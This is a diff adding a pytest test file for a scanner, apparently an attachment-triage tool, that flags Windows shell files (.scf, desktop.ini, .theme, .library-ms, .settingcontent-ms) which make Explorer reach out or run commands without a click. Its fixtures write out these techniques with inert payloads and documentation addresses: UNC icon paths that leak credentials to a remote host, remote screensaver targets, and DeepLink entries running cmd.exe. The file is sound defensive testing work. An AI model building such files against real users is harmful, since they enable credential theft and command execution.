@@ -1,0 +1,78 @@
+"""What Explorer loads without a click: commands, themes, folders, libraries, searches and settings."""
+
+import pytest
+
+from emotriage import Level, scan
+
+LIBRARY = (
+    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
+    "<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{}</url></simpleLocation>"
+    "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"
+)
+SETTING = '<?xml version="1.0"?><PCSettings><DeepLink>{}</DeepLink></PCSettings>'
+
+
+def look(text: str | bytes, name: str):
+    return scan(text if isinstance(text, bytes) else text.encode(), name=name, plugins=[])
+
+
+@pytest.mark.parametrize(
+    ("text", "name", "rule"),
+    [
+        ("[Shell]\nCommand=2\nIconFile=\\\\198.51.100.7\\a\\b.ico\n", "a.scf", "url.leaking-icon"),
+        ("[Shell]\nIconFile=\\\\files.emotriage.invalid\\a\\b.ico,3\n", "a.scf", "url.remote-icon"),
+        ("[.ShellClassInfo]\nIconResource=\\\\198.51.100.7\\a\\b.dll,-4\n", "desktop.ini", "url.leaking-icon"),
+        (
+            "[.ShellClassInfo]\nLocalizedResourceName=@\\\\198.51.100.7\\a\\b.dll,-4\n",
+            "desktop.ini",
+            "url.program-target",
+        ),
+        ("[Theme]\nBrandImage=\\\\198.51.100.7\\a\\b.png\n", "a.theme", "url.leaking-icon"),
+        ("[Theme]\nA=1\n[boot]\nSCRNSAVE.EXE=\\\\198.51.100.7\\a\\b.scr\n", "a.theme", "url.program-target"),
+        ("[Theme]\n[VisualStyles]\nPath=\\\\a.emotriage.invalid@80\\b.msstyles\n", "a.theme", "url.foreign-server"),
+        (LIBRARY.format("\\\\198.51.100.7\\a"), "a.library-ms", "url.foreign-server"),
+        (LIBRARY.format("file://198.51.100.7/a"), "a.library-ms", "url.foreign-server"),
+        (LIBRARY.replace("simpleLocation", "iconReference").format("x"), "a.library-ms", None),
+        (
+            SETTING.format("%windir%\\system32\\cmd.exe /c emotriage-inert"),
+            "a.settingcontent-ms",
+            "url.setting-command",
+        ),
+        (SETTING.format("control.exe &amp; emotriage-inert"), "a.settingcontent-ms", "url.setting-command"),
+        (SETTING.format("%windir%\\system32\\control.exe /name emotriage"), "a.settingcontent-ms", None),
+        (SETTING.format("ms-settings:display"), "a.settingcontent-ms", None),
+    ],
+)
+def test_what_is_loaded_or_started(text, name, rule):
+    found = {one.rule for one in look(text, name).findings if one.rule.startswith("url.")}
+    assert (rule in found) if rule else not found
+
+
+@pytest.mark.parametrize("filler", [b"", bytes(5000), b"\r\n" * 5000])
+def test_padding_hides_nothing(filler):
+    data = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\a\\b.ico\r\n" + filler
+    assert look(data, "a.scf").level >= Level.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n", "a.txt"),
+        ("[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\n", "desktop.ini"),
+        ("[Theme]\r\nBrandImage=C:\\a\\b.png\r\n[boot]\r\nSCRNSAVE.EXE=%windir%\\b.scr\r\n", "a.theme"),
+        ("[theme]\r\nname = dark\r\nserver = build\r\n", "config.ini"),
+    ],
+)
+def test_honest_ones_are_clean(text, name):
+    assert look(text, name).level is Level.CLEAN
+
+
+def test_a_script_does_not_become_one_by_its_first_line():
+    verdict = look(
+        '[shell]\r\nvar shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("emotriage-inert");\r\n', "a.js"
+    )
+    assert verdict.artifacts[0].kind == "script"
+
+
+def test_a_library_that_is_cut_is_a_gap():
+    assert not look(LIBRARY.format("\\\\198.51.100.7\\a")[:-30], "a.library-ms").complete
